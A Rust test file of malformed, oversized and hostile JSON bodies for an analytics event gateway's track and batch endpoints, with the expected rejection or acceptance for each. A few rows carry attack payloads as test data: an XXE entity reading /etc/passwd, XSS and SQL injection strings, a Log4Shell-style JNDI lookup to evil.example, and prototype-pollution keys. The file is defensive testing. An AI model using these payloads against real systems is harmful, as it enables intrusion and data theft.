//! JSON that is none, too much, or means mischief.

use crate::gateway::BATCH_EVENTS_MAX;
use crate::row::{Row, event, event_with, post};

const NOT_JSON: &str = "is not valid JSON";

pub(super) fn rows() -> Vec<Row> {
    [broken(), text(), numbers(), sizes(), names(), batches(), types(), times()].into_iter().flatten().collect()
}

fn track(name: &str, body: impl AsRef<[u8]>) -> Row {
    Row::new(name, post("/v1/track", "", body))
}

fn batch(name: &str, body: impl AsRef<[u8]>) -> Row {
    Row::new(name, post("/v1/batch", "", body))
}

fn broken() -> Vec<Row> {
    let utf16: Vec<u8> = event("utf16").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut with_mark = vec![0xff, 0xfe];
    with_mark.extend(&utf16);
    vec![
        track("an empty body", "").bad("malformed", "empty body is not a JSON object"),
        track("blanks", " \r\n\t ").bad("malformed", "empty body is not a JSON object"),
        track("NUL bytes", [0; 1000]).bad("malformed", "body is not a JSON object"),
        track("a list for an object", "[]").bad("malformed", "body is not a JSON object"),
        track("a number for an object", "1").bad("malformed", "body is not a JSON object"),
        track("text for an object", "\"{}\"").bad("malformed", "body is not a JSON object"),
        track("null for an object", "null").bad("malformed", "body is not a JSON object"),
        track("an object that does not end", r#"{"event":"x","properties":{"#).bad("malformed", NOT_JSON),
        track("text that does not end", r#"{"event":"x"#).bad("malformed", NOT_JSON),
        track("garbage behind the object", event("x") + "garbage").bad("malformed", NOT_JSON),
        track("two objects", event("x") + &event("y")).bad("malformed", NOT_JSON),
        track("a comma too many", r#"{"event":"x","anonymousId":"a",}"#).bad("malformed", NOT_JSON),
        track("single quotes", "{'event':'x'}").bad("malformed", NOT_JSON),
        track("a comment", "{/* */\"event\":\"x\"}").bad("malformed", NOT_JSON),
        track("XML", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")
            .bad("malformed", "body is not a JSON object"),
        track("a form for JSON", "event=x&anonymousId=a").bad("malformed", "body is not a JSON object"),
        track("UTF-16 without a mark", &utf16).bad("malformed", NOT_JSON),
        track("UTF-16 with a mark", &with_mark).bad("malformed", "body is not a JSON object"),
        track("a byte order mark", format!("\u{feff}{}", event("bom"))).taken("bom"),
        track("a hundred byte order marks", format!("{}{}", "\u{feff}".repeat(100), event("bom"))).taken("bom"),
        track(
            "bytes that are no UTF-8 in a name",
            [&b"{\"event\":\"bad \xff\xfe\",\"anonymousId\":\"a\"}"[..]].concat(),
        )
        .taken("bad \u{fffd}\u{fffd}"),
        track(
            "UTF-8 that is longer than need be",
            [&b"{\"event\":\"long \xc0\xaf\",\"anonymousId\":\"a\"}"[..]].concat(),
        )
        .taken("long \u{fffd}\u{fffd}"),
        track("a body of bytes that are no UTF-8", [0xff; 100_000]).bad("malformed", "body is not a JSON object"),
    ]
}

fn text() -> Vec<Row> {
    vec![
        track("a control character in text", "{\"event\":\"a\u{1}b\",\"anonymousId\":\"a\"}")
            .bad("malformed", NOT_JSON),
        track("a line break in text", "{\"event\":\"a\nb\",\"anonymousId\":\"a\"}").bad("malformed", NOT_JSON),
        track("NUL as an escape in a name", r#"{"event":"nul\u0000","anonymousId":"a"}"#).taken("nul\0"),
        track("NUL and line breaks in ids", r#"{"event":"ids","anonymousId":"a\u0000\r\nb","messageId":"\u0000"}"#)
            .taken("ids"),
        track(
            "marks that turn text around in an id",
            format!(r#"{{"event":"ids","anonymousId":"{}"}}"#, "\u{202e}gpj.exe"),
        )
        .taken("ids"),
        track("half an emoji", r#"{"event":"half \ud83d","anonymousId":"a","properties":{"x":"\ude80"}}"#)
            .taken("half \u{fffd}"),
        track("an escape that is none", r#"{"event":"a\x","anonymousId":"a"}"#).bad("malformed", NOT_JSON),
        track("an escape that is cut", r#"{"event":"a\u12","anonymousId":"a"}"#).bad("malformed", NOT_JSON),
        track("a name of markup", event("<script>alert(1)</script>")).taken("<script>alert(1)</script>"),
        track("a name of SQL", event("'; DROP TABLE events; --")).taken("'; DROP TABLE events; --"),
        track("a name of a template", event("${jndi:ldap://evil.example/x}")).taken("${jndi:ldap://evil.example/x}"),
        track("ids that stand for nobody", r#"{"event":"x","anonymousId":"null","userId":"undefined"}"#)
            .bad("missing_field", "`anonymousId` is missing"),
        track("ids of blanks", r#"{"event":"x","anonymousId":"  ","userId":""}"#)
            .bad("missing_field", "`anonymousId` is missing"),
    ]
}

fn numbers() -> Vec<Row> {
    let with =
        |name: &str, number: &str| track(name, event_with("number", &format!(r#""properties":{{"x":{number}}}"#)));
    vec![
        with("a number above all floats", "1e999999").taken("number"),
        with("a number of 400 digits", &"9".repeat(400)).taken("number"),
        with("an exponent of 1000 digits", &format!("1e{}", "9".repeat(1000))).taken("number"),
        with("a number of 70 000 digits", &"9".repeat(70_000)).bad("too_large", "event `number` is"),
        with("minus zero", "-0").taken("number"),
        with("not a number", "NaN").taken("number"),
        with("minus infinity", "-Infinity").taken("number"),
        with("a number that begins with zero", "007").bad("malformed", NOT_JSON),
        with("a number in hexadecimal", "0x10").bad("malformed", NOT_JSON),
        with("a number with a plus", "+1").bad("malformed", NOT_JSON),
        track(
            "numbers for ids",
            r#"{"event":"number","anonymousId":123456789012345678901234567890,"messageId":1e999999}"#,
        )
        .taken("number"),
    ]
}

fn sizes() -> Vec<Row> {
    let nested = |depth: usize| "[".repeat(depth) + &"]".repeat(depth);
    let keys = |count: usize| (0..count).map(|n| format!(r#""k{n}":{n}"#)).collect::<Vec<_>>().join(",");
    let properties = |name: &str, value: &str| track(name, event_with("size", &format!(r#""properties":{value}"#)));
    let objects = |depth: usize| r#"{"a":"#.repeat(depth) + "1" + &"}".repeat(depth);
    vec![
        properties("lists in lists, 30 000 deep", &format!(r#"{{"x":{}}}"#, nested(30_000)))
            .bad("too_large", "nesting of the properties of event `size` is 30 001 levels, limit is 32"),
        properties("objects in objects, 64 deep", &objects(64))
            .bad("too_large", "nesting of the properties of event `size` is 64 levels, limit is 32"),
        properties("objects in objects, 32 deep", &objects(32)).taken("size"),
        properties("2000 keys", &format!("{{{}}}", keys(2000)))
            .bad("too_large", "size of the properties of event `size` is 2 000 keys, limit is 1 024"),
        properties("1024 keys", &format!("{{{}}}", keys(1024))).taken("size"),
        track(
            "lists in lists, 400 000 deep, where nothing is expected",
            event_with("size", &format!(r#""x":{}"#, nested(400_000))),
        )
        .bad("too_large", "event `size` is 800"),
        track("lists in lists, 500 000 deep, and nothing else", nested(500_000))
            .bad("malformed", "body is not a JSON object"),
        track("objects in objects, 100 000 deep, and nothing else", objects(100_000))
            .bad("missing_field", "`event` is missing"),
        track("objects in objects that never end", r#"{"a":"#.repeat(100_000)).bad("malformed", NOT_JSON),
        track(
            "the context, 20 000 deep",
            event_with("size", &format!(r#""context":{}"#, r#"{"page":"#.repeat(10_000) + "1" + &"}".repeat(10_000))),
        )
        .bad("too_large", "event `size` is"),
        track("an event of 1 MB", event_with("size", &format!(r#""properties":{{"x":"{}"}}"#, "x".repeat(1_000_000))))
            .bad("too_large", "event `size` is 1 000 062 bytes, limit is 65 536"),
        track("100 000 members", format!("{{{}}}", keys(70_000))).bad("missing_field", "`event` is missing"),
        track("a name of 100 kB", event(&"x".repeat(100_000))).bad("too_large", "is 100 000 bytes, limit is 512"),
        track("a visitor's id of 100 kB", event("size").replace("hostile", &"x".repeat(60_000)))
            .bad("too_large", "`anonymousId` is 60 000 bytes, limit is 1 024"),
        track("an event's id of 2 kB", event_with("size", &format!(r#""messageId":"{}""#, "x".repeat(2000))))
            .bad("too_large", "`messageId` is 2 000 bytes, limit is 1 024"),
        properties("a key of 60 kB", &format!(r#"{{"{}":1}}"#, "k".repeat(60_000))).taken("size"),
        track(
            "an address of 60 kB",
            event_with("size", &format!(r#""context":{{"page":{{"url":"{}"}}}}"#, "x".repeat(60_000))),
        )
        .taken("size"),
    ]
}

fn names() -> Vec<Row> {
    vec![
        track("names that are said twice: the last counts", r#"{"event":"first","event":"last","anonymousId":"a","anonymousId":"b"}"#)
            .taken("last"),
        track("an id that is said twice, the second time by nobody", r#"{"event":"twice","anonymousId":"a","anonymousId":null}"#)
            .bad("missing_field", "`anonymousId` is missing"),
        track("properties that are said twice", event_with("twice", r#""properties":{"a":1},"properties":{"a":2}"#)).taken("twice"),
        track("one key 1000 times", event_with("twice", &format!(r#""properties":{{{}}}"#, [r#""a":1"#; 1000].join(","))))
            .taken("twice"),
        track("keys that mean something to JavaScript", event_with("proto", r#""__proto__":{"admin":true},"constructor":{"prototype":{}},"properties":{"__proto__":{"x":1},"toString":1}"#))
            .taken("proto"),
        track("empty names", event_with("empty", r#""":"","properties":{"":1}"#)).taken("empty"),
        track("names of NUL", event_with("nul", r#""\u0000":1,"properties":{"\u0000":1}"#)).taken("nul"),
        track("our own names", event_with("own", r#""key":1,"time_ms":0,"properties":{"$context":{"$event":{}},"$context_of_request":1}"#))
            .taken("own"),
        track("a name in capitals is another name", r#"{"EVENT":"x","anonymousId":"a"}"#).bad("missing_field", "`event` is missing"),
        track("a name with escapes is the same name", r#"{"\u0065vent":"escaped","anonymousId":"a"}"#).taken("escaped"),
    ]
}

fn batches() -> Vec<Row> {
    let item = |name: &str| format!(r#"{{"type":"track","event":"{name}","anonymousId":"a"}}"#);
    let ones = |count: usize| format!(r#"{{"batch":[{}]}}"#, vec!["1"; count].join(","));
    let context = |bytes: usize, items: usize| {
        let items = vec![item("amplified"); items].join(",");
        format!(r#"{{"context":{{"x":"{}"}},"batch":[{items}]}}"#, "x".repeat(bytes))
    };
    vec![
        batch("a batch that is text", r#"{"batch":"x"}"#).bad("malformed", "`batch` is not a list"),
        batch("a batch that is an object", r#"{"batch":{"0":{}}}"#).bad("malformed", "`batch` is not a list"),
        batch("a batch that is a number", r#"{"batch":1e999}"#).bad("malformed", ""),
        batch("no batch", "{}").bad("missing_field", "`batch` is missing"),
        batch("an empty batch", r#"{"batch":[]}"#).says(200, "true"),
        batch("a batch of 100 000 numbers", ones(100_000)).too_large("batch is 100 000 events, limit is 10 000"),
        batch("a batch of 500 000 numbers", ones(500_000)).too_large("batch is 500 000 events, limit is 10 000"),
        batch("a batch of 10 000 numbers", ones(BATCH_EVENTS_MAX))
            .bad("malformed", "item of the batch is not a JSON object"),
        batch("a batch in a batch", format!(r#"{{"batch":[{{"type":"track","batch":[{}]}}]}}"#, item("x")))
            .bad("missing_field", "`event` is missing"),
        batch(
            "one bad event among good ones",
            format!(r#"{{"batch":[{},null,[],{{}},{}]}}"#, item("first"), item("last")),
        )
        .says(200, r#""accepted":2"#)
        .keeps("first")
        .keeps("last")
        .rejects("malformed", "item of the batch is not a JSON object"),
        batch("an unknown type", r#"{"batch":[{"type":"drop_table","anonymousId":"a"}]}"#)
            .bad("malformed", "type `drop_table` is not track, page, screen, identify, group or alias"),
        batch("an alias to itself", r#"{"batch":[{"type":"alias","userId":"u","previousId":"u"}]}"#).says(200, "true"),
        batch("a batch within a list", format!("[{}]", item("x"))).bad("malformed", "body is not a JSON object"),
        batch("a context of a batch that would be 4 GB in its events", context(500_000, 8000))
            .too_large("context of the batch"),
        batch("a context of a batch that would be 400 MB in its events", context(50_000, 8000))
            .too_large("context of the batch"),
        batch("a context of a batch with 60 000 members", {
            let members = (0..60_000).map(|n| format!(r#""k{n}":1"#)).collect::<Vec<_>>().join(",");
            format!(r#"{{"context":{{{members}}},"batch":[{},{}]}}"#, item("x"), item("x"))
        })
        .too_large("context of the batch"),
        Row::new("a user agent of 90 kB and 8000 visitors: the log must not hold it 8000 times", {
            let items =
                (0..8000).map(|n| item("agents").replace("\"a\"", &format!("\"a{n}\""))).collect::<Vec<_>>().join(",");
            post("/v1/batch", &format!("user-agent: {}\r\n", "x".repeat(90_000)), format!(r#"{{"batch":[{items}]}}"#))
        })
        .kept_times(8000, "agents"),
    ]
}

fn types() -> Vec<Row> {
    let wrong = ["true", "1", "[]", "{}", "[[1]]", "\"x\""];
    let members = |value: &str| {
        let fields = [
            "context",
            "timestamp",
            "sentAt",
            "originalTimestamp",
            "integrations",
            "messageId",
            "userId",
            "traits",
            "type",
        ];
        fields.map(|field| format!(r#""{field}":{value}"#)).join(",")
    };
    let mut rows = vec![
        track("text for properties", event_with("types", r#""properties":"x""#)).bad("malformed", "`properties` is not a JSON object"),
        track("a list for properties", event_with("types", r#""properties":[1]"#)).bad("malformed", "`properties` is not a JSON object"),
        track("an object for a name", r#"{"event":{"x":1},"anonymousId":"a"}"#).bad("missing_field", "`event` is missing"),
        track("a list for an id", r#"{"event":"x","anonymousId":["a"]}"#).bad("missing_field", "`anonymousId` is missing"),
        track("true for a name", r#"{"event":true,"anonymousId":"a"}"#).bad("missing_field", "`event` is missing"),
        track("a context of wrong types", event_with("types", r#""context":{"page":1,"screen":[],"library":"x","campaign":true,"userAgent":{},"locale":1,"sequence":-1,"ip":[]}"#))
            .taken("types"),
    ];
    for value in wrong {
        let row = track(&format!("{value} in every field"), event_with("types", &members(value)));
        rows.push(match value {
            "[]" | "{}" => row.taken("types"),
            _ => row.bad("malformed", "`traits` is not a JSON object"),
        });
    }
    rows
}

fn times() -> Vec<Row> {
    let times = [
        "\"9999-12-31T23:59:59Z\"",
        "\"-000001-01-01T00:00:00Z\"",
        "\"10000-01-01T00:00:00Z\"",
        "\"0000-00-00T00:00:00Z\"",
        "\"2016-12-31T23:59:60Z\"",
        "\"2026-02-30T00:00:00Z\"",
        "\"2026-01-01T00:00:00+99:99\"",
        "\"2026-01-01T24:00:00Z\"",
        "1e999999",
        "-9223372036854775808",
        "99999999999999999999999999",
        "\"NaN\"",
        "0",
        "\"\"",
    ];
    let row = |time: &&str| {
        let members = format!(r#""timestamp":{time},"sentAt":{time},"originalTimestamp":{time}"#);
        track(&format!("the time {time}"), event_with("time", &members)).taken("time")
    };
    times.iter().map(row).collect()
}
